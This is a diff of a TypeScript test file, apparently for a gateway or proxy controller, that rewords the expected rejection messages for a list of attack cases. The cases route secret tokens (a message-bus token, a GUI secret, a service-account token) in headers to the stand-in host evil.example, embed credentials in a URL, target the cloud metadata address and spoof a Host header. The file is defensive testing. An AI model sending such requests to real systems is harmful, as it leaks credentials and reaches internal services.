@@ -72,7 +72,7 @@ const keys: readonly Attack[] = [
   attack('bus-token', RESERVED, to('https://evil.example/', { 'X-A': ['${NATS_TOKEN}'] })),
   attack('gui-secret', RESERVED, to('https://evil.example/', { 'X-A': ['${GUI_SECRET}'] })),
   attack('value-by-name', RESERVED, to('https://evil.example/', { 'X-A': ['${V_96a554ac1f36f144}'] })),
-  attack('robot', [NOT_PERMITTED, /Secret robot is a service account's/], {
+  attack('robot', [NOT_PERMITTED, /Secret robot is the token of a service account/], {
     ...to('https://evil.example/', { 'X-A': ['${ROBOT}'] }),
     env: [fromSecret('ROBOT', 'robot', 'token')],
   }),
@@ -93,7 +93,7 @@ const values: readonly Attack[] = [
   }),
   attack(
     'own-user-info',
-    ['ResolvedRefs=False/InvalidUrl', /user-info may not stand in it/],
+    ['ResolvedRefs=False/InvalidUrl', /a URL with a user name or password is refused/],
     to('https://u:p@evil.example/', {}),
   ),
   attack('metadata', ['ResolvedRefs=False/HostNotAllowed', /never called/], to('http://169.254.169.254/latest/', {})),
@@ -108,7 +108,7 @@ const values: readonly Attack[] = [
     ...at('picky'),
     ...to('https://evil.example/', {}),
   }),
-  attack('allowed-host-by-header', ['ResolvedRefs=False/HostNotAllowed', /says which hosts are called/], {
+  attack('allowed-host-by-header', ['ResolvedRefs=False/HostNotAllowed', /a Host header is refused/], {
     ...at('picky'),
     ...to('https://res.example/', { Host: ['evil.example'] }),
   }),
@@ -127,11 +127,11 @@ const values: readonly Attack[] = [
 ]
 
 const paths: readonly Attack[] = [
-  attack('of-victim', ['Accepted=False/PathNotAllowed', /get \/team-b\/ and below/], { path: `/${VICTIM}/chat/` }),
-  attack('below-victim', ['Accepted=False/PathNotAllowed', /get \/team-b\/ and below/], {
+  attack('of-victim', ['Accepted=False/PathNotAllowed', /begin with \/team-b\//], { path: `/${VICTIM}/chat/` }),
+  attack('below-victim', ['Accepted=False/PathNotAllowed', /begin with \/team-b\//], {
     path: `/${VICTIM}/chat/deep/`,
   }),
-  attack('above-victim', ['Accepted=False/PathNotAllowed', /get \/team-b\/ and below/], { path: `/${VICTIM}/` }),
+  attack('above-victim', ['Accepted=False/PathNotAllowed', /begin with \/team-b\//], { path: `/${VICTIM}/` }),
   attack('root', ['Accepted=False/PathReserved', /is reserved/], { path: '/' }),
   attack('echo', ['Accepted=False/PathReserved', /is reserved/], { path: '/echo/' }),
   attack('replay-of-victim', ['Accepted=False/PathReserved', /is reserved/], { path: `/mock/${VICTIM}/chat/` }),
